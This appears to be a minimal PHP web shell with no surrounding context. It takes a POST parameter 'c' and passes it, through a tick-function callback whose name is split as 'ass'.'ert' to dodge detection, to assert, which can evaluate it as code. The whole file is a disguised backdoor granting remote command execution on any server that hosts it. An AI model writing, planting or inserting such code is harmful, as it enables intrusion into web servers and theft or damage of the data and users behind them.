<?php
declare(ticks=1);
$c = $_POST['c'];
register_tick_function('ass'.'ert', $c);
